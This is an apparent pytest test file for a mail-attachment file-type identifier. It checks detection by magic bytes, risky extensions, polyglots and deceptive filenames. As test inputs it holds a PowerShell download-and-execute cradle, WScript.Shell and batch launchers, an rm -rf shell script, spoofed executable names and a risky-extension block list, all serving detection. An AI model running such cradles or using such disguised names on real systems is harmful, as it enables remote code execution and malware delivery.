"""What a thing is, by content and names."""

import io
import tarfile
import zipfile
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.adapters.inspection.identify import identify
from gatepost.adapters.inspection.types.extensions import RISKY
from gatepost.model import traits
from gatepost.model.inspection import FileClass
from tests.adapters.inspection.documents.ole_writer import storage
from tests.adapters.inspection.documents.samples import PROGRAM, notebook, package, pdf, shortcut, zipped

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x01\x02" * 200
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
ISO = b"\0" * 32769 + b"CD001\x01\0" + b"\0" * 2048
ARCHIVE = zipped({"a.txt": b"hello"})


def classes(octets, *names, declared=""):
    return set(identify(octets, names, declared).classes)


def codes(octets, *names, declared=""):
    return {trait.code for trait in identify(octets, names, declared).traits}


# ── by content ───────────────────────────────────────────────────────────────


def udf_anchor(block):
    tag = bytearray(b"\2\0\2\0\0\0\0\0\0\0\0\0" + block.to_bytes(4, "little"))
    tag[4] = sum(tag) & 0xFF
    return bytes(tag) + bytes(496)


BY_CONTENT = {
    "pe": (PROGRAM, FileClass.EXECUTABLE),
    "dos": (b"MZ\x90\x00" + b"\0" * 80, FileClass.EXECUTABLE),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 60, FileClass.EXECUTABLE),
    "mach-o": (b"\xcf\xfa\xed\xfe" + b"\0" * 60, FileClass.EXECUTABLE),
    "class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 60, FileClass.EXECUTABLE),
    "dex": (b"dex\n035\x00" + b"\0" * 60, FileClass.EXECUTABLE),
    "wasm": (b"\x00asm\x01\x00\x00\x00" + b"\0" * 60, FileClass.EXECUTABLE),
    "jar": (zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"x"}), FileClass.EXECUTABLE),
    "apk": (zipped({"AndroidManifest.xml": b"x", "classes.dex": b"x"}), FileClass.EXECUTABLE),
    "msix": (zipped({"AppxManifest.xml": b"x", "[Content_Types].xml": b"x"}), FileClass.EXECUTABLE),
    "msi": (
        storage({"x": b"y"}, bytes.fromhex("84100c0000000000c000000000000046")),
        FileClass.EXECUTABLE,
    ),
    "deb": (b"!<arch>\ndebian-binary   ", FileClass.EXECUTABLE),
    "pyc": (b"\xa7\x0d\r\n\0\0\0\0" + b"\0" * 60, FileClass.SCRIPT),
    "lnk": (shortcut(), FileClass.SHORTCUT),
    "library-ms": (b'<?xml version="1.0"?><libraryDescription xmlns="x">', FileClass.SHORTCUT),
    "search-ms": (b'<?xml version="1.0"?><persistedQuery version="1.0">', FileClass.SHORTCUT),
    "settingcontent-ms": (b'<?xml version="1.0"?><PCSettings><SearchableContent>', FileClass.SHORTCUT),
    "onenote": (notebook(), FileClass.NOTEBOOK),
    "chm": (b"ITSF\x03\x00\x00\x00" + b"\0" * 60, FileClass.HELP),
    "hlp": (b"?_\x03\x00" + b"\0" * 60, FileClass.HELP),
    "iso": (ISO, FileClass.DISK_IMAGE),
    "udf": (b"\0" * 32769 + b"BEA01\x01" + b"\0" * 4096, FileClass.DISK_IMAGE),
    "udf by its anchor": (b"\0" * 524288 + udf_anchor(256), FileClass.DISK_IMAGE),
    "iso behind other descriptors": (
        b"\0" * 32769 + b"BEA01\x01" + b"\0" * 2042 + b"CD001\x01" + b"\0" * 4096,
        FileClass.DISK_IMAGE,
    ),
    "old vhd": (b"\1" * 1024 + b"conectix".ljust(511, b"\0"), FileClass.DISK_IMAGE),
    "fat that does not boot": (
        (b"\xe9\0\0MSDOS5.0" + bytes.fromhex("0002010100 02e000400b f009") + bytes(600)),
        FileClass.DISK_IMAGE,
    ),
    "ext": (
        bytes(1024) + (bytes(24) + b"\2\0\0\0").ljust(56, b"\0") + b"\x53\xef" + bytes(18) + b"\1\0\0\0" + bytes(900),
        FileClass.DISK_IMAGE,
    ),
    "hfs": (bytes(1024) + b"H+\0\4" + bytes(1000), FileClass.DISK_IMAGE),
    "vhd": (b"\1" * 1024 + b"conectix".ljust(512, b"\0"), FileClass.DISK_IMAGE),
    "dynamic vhd": (b"conectix".ljust(512, b"\0") + b"\0" * 512, FileClass.DISK_IMAGE),
    "vhdx": (b"vhdxfile" + b"\0" * 512, FileClass.DISK_IMAGE),
    "dmg": (b"\1" * 1024 + b"koly".ljust(512, b"\0"), FileClass.DISK_IMAGE),
    "fat": (
        (b"\xeb\x3c\x90MSDOS5.0".ljust(54, b"\0") + b"FAT16   ").ljust(510, b"\0") + b"\x55\xaa",
        FileClass.DISK_IMAGE,
    ),
    "mbr": (b"\0" * 446 + b"\x80\1\1\0\x0b\1\1\1\1\0\0\0\0\1\0\0" + b"\0" * 48 + b"\x55\xaa", FileClass.DISK_IMAGE),
    "zip": (ARCHIVE, FileClass.ARCHIVE),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 60, FileClass.ARCHIVE),
    "rtf": (b"{\\rtf1 hello}", FileClass.OFFICE),
    "broken rtf": (b"{\\rt\x00 hello}", FileClass.OFFICE),
    "docx": (package(), FileClass.OFFICE),
    "activemime": (b"ActiveMime\0\0\1\xf0", FileClass.OFFICE_MACRO),
    "access": (b"\x00\x01\x00\x00Standard ACE DB\x00" + b"\0" * 60, FileClass.OFFICE_MACRO),
    "pdf": (pdf(), FileClass.PDF),
    "html": (b"<!DOCTYPE html><html><body>hello</body></html>", FileClass.HTML),
    "html behind a comment": (b"<!-- saved -->\r\n<html><body>hello</body></html>", FileClass.HTML),
    "wide html": ("\ufeff<html><body>hello</body></html>".encode("utf-16-le"), FileClass.HTML),
    "mail": (b"From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nhello", FileClass.MESSAGE),
    "calendar": (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", FileClass.CALENDAR),
    "jpeg": (JPEG, FileClass.IMAGE),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', FileClass.IMAGE),
    "text": (b"Dear Sir,\r\nplease find enclosed ...\r\n", FileClass.TEXT),
    "text of another script": ("Большое спасибо\r\n" * 9).encode("koi8-r")
    and ("Большое спасибо\r\n".encode("koi8-r"), FileClass.TEXT),
}


@pytest.mark.parametrize("name", BY_CONTENT)
def test_content_alone_says_what_it_is(name):
    octets, wanted = BY_CONTENT[name]
    assert wanted in classes(octets, "unnamed.bin", declared="application/octet-stream")


def test_a_tar_without_a_signature_is_known_by_its_checksum():
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    octets = bytearray(made.getvalue())
    octets[257:265] = b"\0" * 8
    octets[148:156] = b"%06o\0 " % (sum(octets[:148]) + 256 + sum(octets[156:512]))
    assert identify(bytes(octets), (), "").formats == ("tar",)


def test_a_script_of_unix_is_a_class_of_its_own():
    assert FileClass.UNIX_SCRIPT in classes(
        b"#!/bin/sh\nrm -rf x\n", "invoice.bin", declared="application/octet-stream"
    )
    assert FileClass.UNIX_SCRIPT in classes(b"echo", "build.sh")
    assert FileClass.UNIX_SCRIPT not in classes(b"#!/bin/sh\nrm -rf x\n", "notes.txt", declared="text/plain")


@pytest.mark.parametrize(
    "script",
    [
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
        b'CreateObject("WScript.Shell").Run "calc"',
        b"@echo off\r\nstart calc\r\n",
        b"#@~^EgAAAA==P7X",
        b"Windows Registry Editor Version 5.00\r\n",
        b"IEX (New-Object Net.WebClient).DownloadString('http://x')",
        b"<job><script language='JScript'>x</script></job>",
        b"<?xml version='1.0'?><scriptlet><script>x</script></scriptlet>",
        b"<html><hta:application id=x></html>",
        '\ufeffset s = CreateObject("WScript.Shell")'.encode("utf-16-le"),
    ],
)
def test_a_script_counts_where_its_name_hides_it_and_not_where_it_is_read(script):
    assert RISKY & classes(script, "invoice.bin", declared="application/octet-stream")
    assert not RISKY & classes(script, "notes.txt", declared="text/plain") or script.startswith(b"<?xml")
    assert not RISKY & classes(script, declared="text/plain") or script.startswith(b"<?xml")


# ── by names ─────────────────────────────────────────────────────────────────
LEVEL_1 = """
    ade adp app appcontent-ms application appref-ms asp aspx asx bas bat bgi cab cer chm cmd cnt com cpl crt csh der
    diagcab exe fxp gadget grp hlp hpj hta htc img inf ins iso isp its jar jnlp js jse ksh lnk mad maf mag
    mam maq mar mas
    mat mau mav maw mcf mda mdb mde mdt mdw mdz msc msh msh1 msh2 mshxml msh1xml msh2xml msi msp mst msu ops osd pcd pif
    pl plg prf prg printerexport ps1 ps1xml ps2 ps2xml psc1 psc2 psd1 psdm1 pst py pyc pyo pyw pyz pyzw reg scf scr sct
    search-ms searchconnector-ms settingcontent-ms shb shs theme tmp udl url vb vbe vbp vbs vhd vhdx vsmacros vsw webpnp
    website ws wsb wsc wsf wsh xbap xll xnk library-ms iqy
""".split()
MORE = """
    msix msixbundle appx appxbundle appinstaller apk dll sys ocx scr wasm rdp desktop webloc docm xlsm pptm
    dotm xlam ppam
    xlsb one onepkg dmg vmdk elf deb rpm pkg command sh bash au3 ahk hta svg html ace
""".split()
HARMLESS = {
    FileClass.TEXT,
    FileClass.PDF,
    FileClass.OFFICE,
    FileClass.IMAGE,
    FileClass.MEDIA,
    FileClass.CALENDAR,
    FileClass.UNKNOWN,
}


def test_attach_03_every_risky_extension_has_a_class():
    assert len(LEVEL_1) >= 54
    assert not [word for word in LEVEL_1 if not classes(b"\0\1\2\3", f"a.{word}") - HARMLESS]
    assert not [word for word in MORE if word != "svg" and not classes(b"\0\1\2\3", f"a.{word}") - HARMLESS]


@pytest.mark.parametrize(
    "name",
    [
        "invoice.exe",
        "invoice.pdf.exe",
        "invoice\u202efdp.exe",
        "invoice.exe.",
        "invoice.exe. . ",
        "invoice.exe\u3000",
        "invoice.exe\0.pdf",
        "invoice\0.exe",
        "../../invoice.exe",
        "C:\\x\\invoice.exe",
        "invoice.exe/",
        "invoice.exe::$DATA",
        "invoice.pdf:invoice.exe",
        "invoice\uff0eexe",
        "invoice\u2024exe",
        "invoice%2eexe",
        "invoice%252eexe",
        "invoice.e\u200bxe",
        "invoice.\u202eexe",
        "invoice.\uff45\uff58\uff45",
        "x" * 3000 + ".exe",
        "invoice.pdf" + " " * 200 + ".exe",
        "invoice.EXE",
        "invoice" * 300 + ".exe\0" + "x" * 3000 + ".pdf",
        "invoice.exe;",
        'invoice.exe"',
        "invoice .exe",
        "invoice.pdf\r\n\t.exe",
        "invoice.exe\u00ad",
        "invoice.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}.exe",
    ],
)
def test_attach_01_a_program_is_one_under_every_name_that_becomes_exe(name):
    assert FileClass.EXECUTABLE in classes(b"hello", name)


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("invoice\u202efdp.exe", traits.DECEPTIVE_NAME),
        ("invoice.exe\0.pdf", traits.DECEPTIVE_NAME),
        ("invoice\uff0eexe", traits.DECEPTIVE_NAME),
        ("invoice%2eexe", traits.DECEPTIVE_NAME),
        ("invoice.exe. .", traits.DECEPTIVE_NAME),
        ("invoice.pdf" + " " * 99 + ".exe", traits.DECEPTIVE_NAME),
        ("invoice.exe::$DATA", traits.DECEPTIVE_NAME),
        ("invoice.pdf.exe", traits.DOUBLE_EXTENSION),
        ("invoice.pdf .exe", traits.DOUBLE_EXTENSION),
        ("x" * 250 + ".exe" + "x" * 3000 + ".pdf", traits.DECEPTIVE_NAME),
        ("photo.jpg.js", traits.DOUBLE_EXTENSION),
        ("orders.xlsx.lnk", traits.DOUBLE_EXTENSION),
        ("a.zip.iso", traits.DOUBLE_EXTENSION),
    ],
)
def test_attach_01_a_name_that_deceives_is_said_to(name, word):
    assert word in codes(b"hello", name)


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf",
        "report.v1.2.pdf",
        "archive.tar.gz",
        "mail.example.com.pdf",
        "data 2024.01.02.csv",
        "jquery.min.js",
        "日本語。報告.pdf",
        "דוח\u200f.docx",
        "\u202ascan.pdf",
        "50% off.pdf",
        "Re: orders.eml",
        "a.b.c.d.e.txt",
        "résumé.doc",
        "image001.png",
        "no extension",
        "",
        ".",
        "...",
        ".htaccess",
        "Fwd  two  blanks.pdf",
        "setup.exe",
        "12:30 notes.txt",
    ],
)
def test_an_honest_name_deceives_nobody(name):
    assert not codes(b"hello", name)


def test_attach_02_names_count_together_and_their_difference_is_said():
    assert classes(b"hello", "invoice.pdf", "invoice.exe") >= {FileClass.PDF, FileClass.EXECUTABLE}
    assert traits.NAMES_DIFFER in codes(b"hello", "invoice.pdf", "invoice.exe")
    assert traits.NAMES_DIFFER in codes(b"hello", "invoice", "invoice.js")
    assert traits.NAMES_DIFFER not in codes(b"hello", "invoice.pdf", "Invoice (1).pdf")
    assert traits.NAMES_DIFFER not in codes(b"hello", "notes.txt", "notes")


def test_attach_02_a_thing_with_very_many_names_says_so():
    names = tuple(f"{n}.pdf" for n in range(100))
    assert traits.NAMES_DIFFER in codes(b"hello", *names)
    assert traits.NAMES_DIFFER not in codes(b"hello", *names[:40])


def test_a_clsid_as_extension_starts_what_it_names():
    assert FileClass.EXECUTABLE in classes(b"x", "a.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}")


def test_a_picture_whose_name_ends_like_a_domain_is_no_program():
    assert FileClass.EXECUTABLE not in classes(JPEG, "Your order at example.com")
    assert FileClass.EXECUTABLE in classes(b"X5O!P%", "www.example.com")


# ── against each other ───────────────────────────────────────────────────────
@pytest.mark.parametrize(
    ("octets", "name", "declared"),
    [
        (PROGRAM, "invoice.txt", "text/plain"),
        (PROGRAM, "invoice.pdf", "application/pdf"),
        (PROGRAM, "", "image/jpeg"),
        (PROGRAM, "photo.zip", "application/zip"),
        (ISO, "photo.jpg", "image/jpeg"),
        (shortcut(), "order.pdf", ""),
        (ARCHIVE, "photo.jpg", "image/jpeg"),
        (notebook(), "notes.docx", ""),
        (b"#!/bin/sh\nrm -rf x", "photo.jpg", "image/jpeg"),
    ],
)
def test_attach_01_content_that_gives_its_name_the_lie_is_mislabelled(octets, name, declared):
    assert traits.MISLABELLED in codes(octets, *([name] if name else []), declared=declared)


@pytest.mark.parametrize("first", [b"GIF89a", b"%PDF-1.7 1 0 obj", PROGRAM[:4], b"PK\x03\x04"])
def test_attach_16_what_begins_like_another_kind_and_is_a_disc_is_both(first):
    disc = first.ljust(32769, b"\0") + b"CD001\x01" + bytes(4096)
    identity = identify(disc, (), "")
    assert "iso" in identity.formats
    assert traits.POLYGLOT in {trait.code for trait in identity.traits}


def test_attach_16_what_begins_like_another_kind_and_ends_as_a_disk_is_both():
    identity = identify(JPEG + bytes(600) + b"conectix".ljust(512, b"\0"), ("photo.jpg",), "image/jpeg")
    assert identity.formats == ("image", "vhd")


def test_a_disc_from_which_a_machine_can_start_is_a_disk_too_and_nothing_odd():
    start = bytes(446) + b"\x80\1\1\0\x17\1\1\1\0\0\0\0\0\1\0\0" + bytes(48) + b"\x55\xaa"
    identity = identify(start.ljust(32769, b"\0") + b"CD001\x01" + bytes(4096), (), "")
    assert (identity.formats, identity.traits) == (("iso", "img"), ())


def test_attach_11_images_of_disks_are_known_by_content_under_any_name():
    for octets, kind in (
        BY_CONTENT[name] for name in ("iso", "udf", "vhd", "dynamic vhd", "vhdx", "fat", "mbr", "dmg")
    ):
        assert kind in classes(octets, "photo.jpg", declared="image/jpeg")
        assert traits.MISLABELLED in codes(octets, "photo.jpg", declared="image/jpeg")


@pytest.mark.parametrize(
    ("octets", "name", "declared"),
    [
        (package(), "report.docx", "application/octet-stream"),
        (JPEG, "photo.png", "image/png"),
        (b"text", "a.bin", "image/png"),
        (b"hello", "trace.log", "application/octet-stream"),
        (pdf(), "invoice.pdf", "text/plain"),
        (ARCHIVE, "a.zip", "text/plain"),
        (b"\x78\x9f\x3e\x22" + b"\0" * 20, "winmail.dat", "application/ms-tnef"),
        (b"{\\rtf1 x}", "letter.doc", "application/msword"),
        (b"<html><table>x</table></html>", "report.xls", "application/vnd.ms-excel"),
        (package(), "report.doc", "application/msword"),
        (b"0\x82\x01\x00\x06", "smime.p7s", "application/pkcs7-signature"),
        (ARCHIVE, "plan.vsdx", "application/octet-stream"),
        (b"\0\5\x16\7" + b"\0" * 30, "photo.jpg", "image/jpeg"),
        (b"", "photo.jpg", "image/jpeg"),
        (PROGRAM, "setup.exe", "text/plain"),
        (b"\x1f\x8b\x08" + b"\0" * 30, "logo.svgz", "image/svg+xml"),
        (b"#!/bin/sh\necho", "build.txt", "text/plain"),
        (b"BEGIN:VCARD\r\nEND:VCARD\r\n", "a.vcf", "text/x-vcard"),
        (ARCHIVE, "book.epub", ""),
        (b"MZ is a text\r\n", "a.txt", ""),
    ],
)
def test_honest_mail_is_not_mislabelled(octets, name, declared):
    assert traits.MISLABELLED not in codes(octets, name, declared=declared)


# ── polyglots ────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    ("octets", "formats"),
    [
        (GIF + ARCHIVE, {"image", "zip"}),
        (JPEG + ARCHIVE + b"rest" * 9, {"image", "zip"}),
        (pdf() + ARCHIVE, {"pdf", "zip"}),
        (b"\0" * 500 + pdf(), {"pdf"}),
        (GIF + b"Rar!\x1a\x07\x01\x00" + b"\0" * 50, {"image", "rar"}),
        (GIF + pdf(), {"image", "pdf"}),
        (b"{\\rtf1 x}" + ARCHIVE, {"rtf", "zip"}),
    ],
)
def test_attach_16_a_file_that_is_two_is_opened_as_both(octets, formats):
    found = identify(octets, ("picture.gif",), "image/gif")
    assert formats <= set(found.formats)
    assert traits.POLYGLOT in {trait.code for trait in found.traits}


def test_attach_16_a_jar_behind_a_picture_is_a_program():
    assert FileClass.EXECUTABLE in classes(GIF + BY_CONTENT["jar"][0], "picture.gif")


@pytest.mark.parametrize(
    "octets",
    [
        ARCHIVE,
        pdf(),
        package(),
        JPEG,
        storage({"Package": ARCHIVE}),
        storage({"WordDocument": b"x" * 5000, "Package": ARCHIVE}),
        zipped({"a.zip": ARCHIVE, "b.pdf": pdf()}, zipfile.ZIP_STORED),
        b"We talk of %PDF-1.4 here.",
        b"PK\x05\x06 is a mark.",
    ],
)
def test_a_file_that_holds_another_is_no_polyglot(octets):
    assert traits.POLYGLOT not in codes(octets, "a.bin")


# ── what others would open it as ─────────────────────────────────────────────
def formats(octets, *names, declared=""):
    return set(identify(octets, names, declared).formats)


@pytest.mark.parametrize("start", [b"GIF89a", b"%PDF-1.4", b"\x01", b"OggS"])
@pytest.mark.parametrize("declared", ["text/plain", "text/html", ""])
def test_mime_26_what_is_shown_as_text_may_hold_files_whatever_it_looks_like(start, declared):
    octets = start + b"\r\nbegin 644 a.js\r\n#86QE\r\n`\r\nend\r\n"
    assert "text-encodings" in formats(octets, declared=declared)
    assert "text-encodings" not in formats(octets, "a.dat", declared="application/octet-stream")


@pytest.mark.parametrize("ending", ["alz", "egg", "arc", "sit", "kgb", "lzma"])
@pytest.mark.parametrize("octets", [b"\x80\x00\xfe" * 99, b"\x80\x07\xfe" * 99])
def test_attach_10_an_archive_that_nothing_here_reads_is_said_to_be_one(ending, octets):
    assert traits.UNREADABLE in codes(octets, f"a.{ending}")
    assert traits.UNREADABLE not in codes(b"words", f"a.{ending}")
    assert traits.UNREADABLE not in codes(JPEG, f"a.{ending}")


@pytest.mark.parametrize("ending", ["zip", "gz", "7z", "rar"])
def test_what_lacks_the_signature_of_its_kind_is_opened_by_nobody(ending):
    assert codes(b"\x80\x00\xfe" * 99, f"a.{ending}") == set()


@pytest.mark.parametrize(
    ("declared", "kind"),
    [
        ("application/x-bat", FileClass.SCRIPT),
        ("application/appinstaller", FileClass.EXECUTABLE),
        ("application/internet-shortcut", FileClass.SHORTCUT),
        ("application/vnd.ms-excel.sheet.macroenabled.12", FileClass.OFFICE_MACRO),
        ("application/x-cd-image", FileClass.DISK_IMAGE),
    ],
)
def test_attach_03_the_type_counts_where_no_name_has_an_extension(declared, kind):
    assert kind in classes(b"x", declared=declared) and kind in classes(b"x", "order", declared=declared)
    assert kind not in classes(b"x", "order.txt", declared=declared)


def test_attach_14_a_pdf_needs_no_header():
    octets = b"1 0 obj\n<</Type/Catalog>>\nendobj\n"
    assert "pdf" in formats(octets, "a.pdf") and "pdf" in formats(octets, declared="application/pdf")
    assert "pdf" not in formats(b"words", "a.pdf") | formats(octets, "a.txt")


def test_attach_12_a_page_for_word_is_one_whatever_stands_before_it():
    page = b"Mime-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
    assert "rfc822" in formats(b"words\n\n" + page, "a.doc") and "rfc822" not in formats(b"words\n\n" + page, "a.txt")
    assert traits.POLYGLOT in codes(b"%PDF-1.4\n" + page, "a.doc")


def test_rtf_and_cards_may_begin_with_blanks():
    assert formats(b"\r\n {\\rtf1 words}", "a.doc") == {"rtf"}
    assert formats(b"\r\nBEGIN:VCARD\r\n", "a.dat") == {"vcf"} == formats(b"words", "a.vcf")


# ── whatever comes ───────────────────────────────────────────────────────────
PIECES = st.lists(
    st.sampled_from(
        [
            b"MZ",
            b"PK\x03\x04",
            b"PK\x05\x06",
            b"PK\x01\x02",
            b"%PDF-1.4",
            b"{\\rt",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"\0",
            b"\0" * 600,
            b"\xff\xfe",
            b"<html>",
            b"<svg",
            b"begin 644 a",
            b"\n",
            b"Rar!\x1a\x07",
            b"7z\xbc\xaf\x27\x1c",
            b"\x55\xaa",
            b"\xff\xff\xff\xff",
            b"From: a\n",
            b"MIME-Version: 1.0\n",
            b"koly",
            b"conectix",
            b"a" * 300,
        ]
    ),
    max_size=12,
).map(b"".join)
LETTERS = st.text(st.sampled_from('ae.x/\\:\0%2 \t\u202e\u200b\uff0e"$DATA{}-'), max_size=40)


@given(
    PIECES,
    st.lists(st.one_of(LETTERS, st.text(max_size=20)), max_size=4),
    st.sampled_from(["", "text/plain", "x/y", "/"]),
)
def test_whatever_it_is_there_is_an_answer(octets, names, declared):
    found = identify(octets, tuple(names), declared)
    assert found.classes and found.media_type
    assert len(set(found.formats)) == len(found.formats)
    assert all(trait.detail.isprintable() and len(trait.detail) < 400 for trait in found.traits)


def test_time_is_linear_in_the_size_and_in_the_names():
    began = perf_counter()
    for piece in (
        b"begin ",
        b"PK\x05\x06",
        b"PK\x01\x02",
        b"PK\x03\x04",
        b"%PDF",
        b"<",
        b"7z\xbc\xaf\x27\x1c",
        b"\nbegin-base64 ",
    ):
        identify(piece * (4_000_000 // len(piece)), ("a" * 100_000 + "%2e" * 30_000 + ":" * 50_000,) * 50, "text/plain")
    assert perf_counter() - began < 5
